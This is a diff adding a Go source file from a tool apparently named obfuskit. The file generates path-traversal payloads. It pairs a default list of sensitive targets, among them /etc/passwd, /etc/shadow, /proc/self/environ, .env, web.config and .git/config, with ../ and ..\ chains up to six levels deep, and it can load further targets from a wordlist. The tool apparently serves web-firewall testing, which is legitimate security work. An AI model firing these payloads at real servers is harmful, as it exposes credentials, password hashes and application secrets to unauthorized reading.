@@ -0,0 +1,109 @@
+package path
+
+import (
+	"bufio"
+	"os"
+	"regexp"
+	"strings"
+
+	"obfuskit/internal/evasions"
+)
+
+// DefaultFileAccessDepth is the deepest ../ chain generated for each target file
+const DefaultFileAccessDepth = 6
+
+// DefaultSensitiveFiles are the target files used by FileAccessPayloads when no
+// wordlist is supplied. Absolute Unix paths start with "/", Windows paths use a
+// drive letter or backslashes, and anything else is treated as relative to the
+// web root (application config files).
+var DefaultSensitiveFiles = []string{
+	"/etc/passwd",
+	"/etc/shadow",
+	"/etc/hosts",
+	"/proc/self/environ",
+	"/var/log/apache2/access.log",
+	`C:\Windows\win.ini`,
+	`C:\Windows\System32\drivers\etc\hosts`,
+	`C:\boot.ini`,
+	`C:\inetpub\wwwroot\web.config`,
+	".env",
+	"WEB-INF/web.xml",
+	"config.php",
+	".git/config",
+}
+
+var driveLetterPattern = regexp.MustCompile(`^[A-Za-z]:[\\/]`)
+
+// FileAccessPayloads combines each target file with ../ traversal sequences
+// from depth 1 up to maxDepth. Unix targets are emitted with forward slashes,
+// Windows targets with both backslashes and forward slashes, and absolute
+// targets are also included as-is.
+func FileAccessPayloads(targets []string, maxDepth int) []string {
+	if maxDepth < 1 {
+		maxDepth = DefaultFileAccessDepth
+	}
+
+	var payloads []string
+	for _, target := range targets {
+		target = strings.TrimSpace(target)
+		if target == "" {
+			continue
+		}
+
+		if isWindowsTarget(target) {
+			relative := strings.TrimLeft(driveLetterPattern.ReplaceAllString(target, ""), `\/`)
+			backslashed := strings.ReplaceAll(relative, "/", `\`)
+			slashed := strings.ReplaceAll(relative, `\`, "/")
+
+			if driveLetterPattern.MatchString(target) {
+				payloads = append(payloads, target)
+			}
+			for depth := 1; depth <= maxDepth; depth++ {
+				payloads = append(payloads,
+					strings.Repeat(`..\`, depth)+backslashed,
+					strings.Repeat("../", depth)+slashed,
+				)
+			}
+			continue
+		}
+
+		relative := strings.TrimLeft(target, "/")
+		if strings.HasPrefix(target, "/") {
+			payloads = append(payloads, target)
+		} else {
+			payloads = append(payloads, relative)
+		}
+		for depth := 1; depth <= maxDepth; depth++ {
+			payloads = append(payloads, strings.Repeat("../", depth)+relative)
+		}
+	}
+
+	return evasions.UniqueStrings(payloads)
+}
+
+// LoadSensitiveFiles reads a target file wordlist, one path per line.
+// Blank lines and lines starting with # are ignored.
+func LoadSensitiveFiles(filename string) ([]string, error) {
+	file, err := os.Open(filename)
+	if err != nil {
+		return nil, err
+	}
+	defer file.Close()
+
+	var targets []string
+	scanner := bufio.NewScanner(file)
+	for scanner.Scan() {
+		line := strings.TrimSpace(scanner.Text())
+		if line != "" && !strings.HasPrefix(line, "#") {
+			targets = append(targets, line)
+		}
+	}
+	if err := scanner.Err(); err != nil {
+		return nil, err
+	}
+	return targets, nil
+}
+
+func isWindowsTarget(target string) bool {
+	return driveLetterPattern.MatchString(target) || strings.Contains(target, `\`)
+}